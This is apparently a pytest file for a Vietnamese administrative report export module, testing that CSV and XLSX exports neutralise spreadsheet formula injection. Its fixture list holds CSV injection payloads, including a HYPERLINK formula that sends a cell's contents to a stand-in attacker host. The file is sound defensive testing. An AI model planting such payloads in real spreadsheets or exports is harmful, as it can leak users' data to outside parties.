"""II.06a exports (domain/exports.py): CSV text that a spreadsheet would evaluate is neutralised
(OWASP CSV injection); XLSX keeps its cells typed, text as text and numbers as numbers."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from domain import exports
from domain.reports import Figures, Period, Table

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-3+4", "@SUM(A1:A9)",
            "\tcmd", "\rcmd"]


def table_with(fields: list[str], agency: str = "000.00.06.H56") -> Table:
    groups = {(agency, f): Figures(received_in_person=i + 1, resolved_on_time=i) for i, f in enumerate(fields)}
    total = sum(groups.values(), Figures())
    return Table(period=Period(date(2026, 1, 1), date(2026, 1, 31)), as_of="2026-02-01T00:00:00",
                 key=("agency", "field"), groups=groups, total=total)


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_cell_that_starts_like_a_formula_is_prefixed_so_no_spreadsheet_evaluates_it(formula):
    body = exports.to_csv(table_with([formula]), {"000.00.06.H56": formula})
    data = next(r for r in csv_rows(body)[1:] if r[0] == "1")
    assert data[1] == "'" + formula and data[2] == "'" + formula


def test_ordinary_text_and_every_number_in_the_csv_are_written_unchanged():
    body = exports.to_csv(table_with(["Hộ tịch", "Đất đai"]), {"000.00.06.H56": "UBND xã Hòa Bình"})
    rows = csv_rows(body)
    assert rows[0] == exports.flat_headers()
    assert [r[1:3] for r in rows[1:3]] == [["UBND xã Hòa Bình", "Hộ tịch"], ["UBND xã Hòa Bình", "Đất đai"]]
    total = rows[-1]
    assert total[1] == "Tổng cộng"
    received = exports.flat_headers().index("Tiếp nhận trong kỳ - Tổng")
    assert total[received] == "3"  # 1 + 2, a plain number the spreadsheet sums


def test_csv_cell_leaves_numbers_alone_even_negative_ones():
    assert exports.csv_cell(-5) == -5 and exports.csv_cell(2.5) == 2.5
    assert exports.csv_cell("-5") == "'-5" and exports.csv_cell("UBND") == "UBND" and exports.csv_cell("") == ""


def test_the_xlsx_export_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    import openpyxl
    body = exports.to_xlsx(table_with(FORMULAS[:4]), {"000.00.06.H56": FORMULAS[0]}, issuer="UBND tỉnh")
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]  # no cell is a formula
    data = [row for row in sheet.iter_rows(min_row=7) if isinstance(row[0].value, int)]
    assert [r[2].value for r in data] == FORMULAS[:4] and {r[2].data_type for r in data} == {"s"}
    assert data[0][1].value == FORMULAS[0]
    received = 3 + exports.II06A_COLUMNS.index("received")
    assert [r[received].value for r in data] == [1, 2, 3, 4] and all(isinstance(r[received].value, int) for r in data)
